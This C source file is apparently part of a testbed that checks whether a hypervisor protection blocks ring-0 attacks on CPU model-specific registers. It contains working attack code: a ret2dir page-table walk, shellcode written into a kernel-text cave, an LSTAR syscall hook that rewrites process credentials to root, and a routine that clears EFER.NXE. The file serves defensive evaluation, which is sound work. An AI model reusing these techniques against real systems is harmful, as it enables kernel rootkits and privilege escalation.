/*
 * MSR attacks (docs/attacks.md, family 5): a ring-0 attacker rewrites the MSRs HyperGuard
 * locks.  The vulnerable driver's controlled call reaches kernel gadgets (guest/lib/gadgets.S:
 * gadget_wrmsr takes its operands from memory, gadget_rdmsr returns an MSR); code the attacker needs in
 * ring 0 is written into a kernel-text "cave" through the physmap alias (possible only with HVCI off,
 * which therefore is off in both runs of these rows).
 */
#include "lib/x86.h"
#include "vbs/user/ulib.h"

#define MSR_EFER 0xc0000080u
#define MSR_LSTAR 0xc0000082u
#define EFER_NXE (1ull << 11)
#define EFER_LMA (1ull << 10)

/*
 * ret2dir (Kemerlis et al., USENIX Security 2014): the kernel's alias of one of our user pages.  SMAP
 * stops the kernel from reading U_SCRATCH at its user address, but the same physical page is also in
 * the kernel's direct map (the physmap, PHYSMAP_BASE + pa, RW for the kernel).  We find the physical
 * address by walking the page tables with the driver's read (kpt from /proc/kallsyms).
 */
u64 user_kva(u64 uva)
{
    u64 kpt = ksym("kpt");
    if (!kpt)
        return 0;
    u64 table = kread(kpt); /* struct pgtable: first member is the PML4 (VA == PA) */
    for (int level = 4; level >= 1; level--) {
        u64 e = kread((table & PTE_ADDR) + 8 * ((uva >> (12 + 9 * (level - 1))) & 511));
        if (!(e & PTE_P))
            return 0;
        if (level == 1 || (level <= 3 && (e & PTE_PS))) {
            u64 size = 1ull << (12 + 9 * (level - 1));
            return PHYSMAP_BASE + ((e & PTE_ADDR & ~(size - 1)) | (uva & (size - 1)));
        }
        table = e;
    }
    return 0;
}

/* wrmsr through gadget_wrmsr, its operands staged in U_SCRATCH and handed over at their physmap alias */
struct wrmsr_args {
    u64 msr, value;
};
static long staged_wrmsr(u64 gadget, u64 args_kva, u32 msr, u64 value)
{
    struct wrmsr_args *a = (struct wrmsr_args *)U_SCRATCH;
    a->msr = msr;
    a->value = value;
    return kcall(gadget, args_kva);
}

/* A kernel-text cave: bytes of a function that does not run during an attack (run_checks, the boot
 * checks: attack=NAME skips them), overwritten through its physmap alias and put back afterwards. */
#define CAVE_MAX 128
static void cave_write(u64 cave, const u8 *code, u64 n, u64 *save)
{
    for (u64 o = 0; o < n; o += 8) {
        u64 q = 0;
        memcpy(&q, code + o, n - o < 8 ? n - o : 8);
        if (n - o < 8) /* keep the cave's own bytes after the code */
            q |= save[o / 8] & ~((1ull << (8 * (n - o))) - 1);
        kwrite(PHYSMAP_BASE + cave + o, q);
    }
}
static void cave_save(u64 cave, u64 n, u64 *save)
{
    for (u64 o = 0; o < n; o += 8)
        save[o / 8] = kread(cave + o);
}
static void cave_restore(u64 cave, u64 n, const u64 *save)
{
    for (u64 o = 0; o < n; o += 8)
        kwrite(PHYSMAP_BASE + cave + o, save[o / 8]);
}

/* ---------------------------------------------------------------- msr-lstar */

/*
 * The attacker's system-call handler (copied into the cave, so it runs in ring 0 as kernel text).
 * Entered by SYSCALL: CPL 0, RCX = user RIP, R11 = user RFLAGS, RSP = the user stack (untouched: SMAP).
 * It makes the caller root (commit_creds in miniature), records that it ran and with which CS, puts the
 * kernel's LSTAR back (only one system call is ours) and returns to ring 3 with SYSRET.
 * Its operands are quads after the code, filled in by the program before the copy.
 */
#define LSTAR_MAGIC 0x6c737461722d686bull /* "kh-ratsl" */
__asm__(".pushsection .text\n"
        ".balign 16\n"
        "lstar_sc:\n"
        "    mov lsc_out(%rip), %r8\n"   /* kernel alias of our result area */
        "    mov lsc_slot(%rip), %r9\n"
        "    mov lsc_root(%rip), %r10\n"
        "    mov %r10, (%r9)\n"          /* current->cred = cred_root */
        "    mov %cs, %eax\n"
        "    mov %rax, 8(%r8)\n"         /* the CS we run with */
        "    mov %rcx, %r9\n"
        "    mov $0xc0000082, %ecx\n"
        "    mov lsc_lstar(%rip), %eax\n"
        "    mov lsc_lstar+4(%rip), %edx\n"
        "    wrmsr\n"                    /* LSTAR = the kernel's syscall_entry again */
        "    mov %r9, %rcx\n"
        "    movabs $0x6c737461722d686b, %rax\n"
        "    mov %rax, (%r8)\n"
        "    sysretq\n"
        ".balign 8\n"
        "lsc_out: .quad 0\n"
        "lsc_slot: .quad 0\n"
        "lsc_root: .quad 0\n"
        "lsc_lstar: .quad 0\n"
        "lstar_sc_end:\n"
        ".popsection\n");
extern const u8 lstar_sc[], lstar_sc_end[];

struct lstar_result {
    u64 ran, cs;
};

/*
 * msr-lstar: the classic syscall-entry hook of rootkits (and of PatchGuard's and HyperGuard's reason to
 * exist): point IA32_LSTAR at the attacker's handler with WRMSR from ring 0.  Success: our next SYSCALL
 * ran the attacker's handler in ring 0 (it answered with its magic, saw CS = kernel code) and made us root.
 */
static int attack_msr_lstar(const char *args)
{
    (void)args;
    u64 gw = ksym("gadget_wrmsr"), gr = ksym("gadget_rdmsr"), cave = ksym("run_checks");
    u64 cur = kread(ksym("current")), root = kread(ksym("cred_root"));
    u64 args_k = user_kva(U_SCRATCH);
    if (!gw || !gr || !cave || !cur || !root || !args_k)
        attack_error("missing symbols or no physmap alias of the scratch page");
    u64 lstar = (u64)kcall(gr, MSR_LSTAR);
    struct lstar_result *res = (struct lstar_result *)(U_SCRATCH + 0x800);
    *res = (struct lstar_result){0, 0};
    u64 n = (u64)(lstar_sc_end - lstar_sc);
    if (n > CAVE_MAX)
        attack_error("handler too big (%lu bytes)", n);
    u8 code[CAVE_MAX];
    memcpy(code, lstar_sc, n);
    u64 *ops = (u64 *)(code + n - 32);
    ops[0] = args_k + 0x800; /* lsc_out */
    ops[1] = cur + __builtin_offsetof(struct proc, cred);
    ops[2] = root;
    ops[3] = lstar;
    u64 save[CAVE_MAX / 8];
    cave_save(cave, n, save);
    cave_write(cave, code, n, save);
    u_printf("  attack: uid %ld; LSTAR 0x%lx -> 0x%lx (our handler, %lu bytes in the run_checks cave) through "
             "gadget_wrmsr at 0x%lx, operands at physmap 0x%lx\n", u_getuid(), lstar, cave, n, gw, args_k);
    staged_wrmsr(gw, args_k, MSR_LSTAR, cave); /* with HyperGuard: VTL1 intercepts the WRMSR, #GP: we are killed */
    long r;
    {
        register u64 rdi __asm__("rdi") = 0, rsi __asm__("rsi") = 0, rdx __asm__("rdx") = 0;
        __asm__ volatile("syscall"
                         : "=a"(r), "+r"(rdi), "+r"(rsi), "+r"(rdx)
                         : "0"((u64)SYS_GETPID)
                         : "rcx", "r8", "r9", "r10", "r11", "memory");
    }
    long uid = u_getuid();
    u64 now = (u64)kcall(gr, MSR_LSTAR);
    cave_restore(cave, n, save);
    if ((u64)r == LSTAR_MAGIC && res->ran == LSTAR_MAGIC && (res->cs & 3) == 0 && uid == 0)
        attack_succeeded("our SYSCALL ran the attacker's handler at 0x%lx in ring 0 (cs=0x%lx); uid is now 0; LSTAR "
                         "back to 0x%lx", cave, res->cs, now);
    attack_blocked("the system call went to the kernel (getpid -> 0x%lx, handler ran=0x%lx, uid %ld, LSTAR 0x%lx)",
                   (u64)r, res->ran, uid, now);
}
UATTACK("msr-lstar", attack_msr_lstar);

/* ---------------------------------------------------------------- msr-efer-nxe */

/*
 * Ring-0 code (copied into the cave, called through the driver): clear EFER.NXE, read EFER back, set it
 * again, return what was read.  Nothing between the two writes touches memory: with NXE clear, bit 63
 * of every page-table entry is a reserved bit, and this kernel marks all its data NX, so the first
 * stack access would be a reserved-bit #PF (and the #PF's own frame push a triple fault).
 */
__asm__(".pushsection .text\n"
        ".balign 16\n"
        "efer_sc:\n"
        "    mov $0xc0000080, %ecx\n"
        "    rdmsr\n"
        "    mov %eax, %esi\n"
        "    mov %edx, %edi\n"
        "    and $0xfffff7ff, %eax\n"
        "    wrmsr\n"                   /* EFER.NXE = 0 */
        "    rdmsr\n"                   /* what the CPU holds now */
        "    mov %eax, %r8d\n"
        "    mov %edx, %r9d\n"
        "    mov %esi, %eax\n"
        "    mov %edi, %edx\n"
        "    wrmsr\n"                   /* NXE back */
        "    mov %r9, %rax\n"
        "    shl $32, %rax\n"
        "    or %r8, %rax\n"
        "    ret\n"
        "efer_sc_end:\n"
        ".popsection\n");
extern const u8 efer_sc[], efer_sc_end[];

/*
 * msr-efer-nxe: switch the no-execute enforcement off for the whole machine (EFER.NXE = 0, the bit DEP /
 * NX rest on) with WRMSR from ring 0.  Success: EFER read back inside the same ring-0 sequence has NXE
 * clear (the write took effect in the CPU), and the kernel's EFER is intact afterwards.
 */
static int attack_msr_efer_nxe(const char *args)
{
    (void)args;
    u64 gr = ksym("gadget_rdmsr"), cave = ksym("run_checks");
    if (!gr || !cave)
        attack_error("missing symbols");
    u64 efer = (u64)kcall(gr, MSR_EFER);
    if (!(efer & EFER_NXE))
        attack_error("EFER.NXE is not set (efer=0x%lx): nothing to defeat", efer);
    u64 n = (u64)(efer_sc_end - efer_sc);
    u64 save[CAVE_MAX / 8];
    cave_save(cave, n, save);
    cave_write(cave, efer_sc, n, save);
    u_printf("  attack: EFER 0x%lx -> 0x%lx by ring-0 code at 0x%lx (run_checks cave)\n", efer, (u64)(efer & ~EFER_NXE), cave);
    u64 seen = (u64)kcall(cave, 0); /* with HyperGuard: VTL1 intercepts the WRMSR, #GP: we are killed */
    u64 after = (u64)kcall(gr, MSR_EFER);
    cave_restore(cave, n, save);
    if ((seen & EFER_LMA) && !(seen & EFER_NXE) && after == efer)
        attack_succeeded("EFER was 0x%lx in ring 0 (NXE clear: no-execute off machine-wide); restored to 0x%lx", seen,
                         after);
    attack_blocked("EFER.NXE did not clear (read back 0x%lx, now 0x%lx)", seen, after);
}
UATTACK("msr-efer-nxe", attack_msr_efer_nxe);
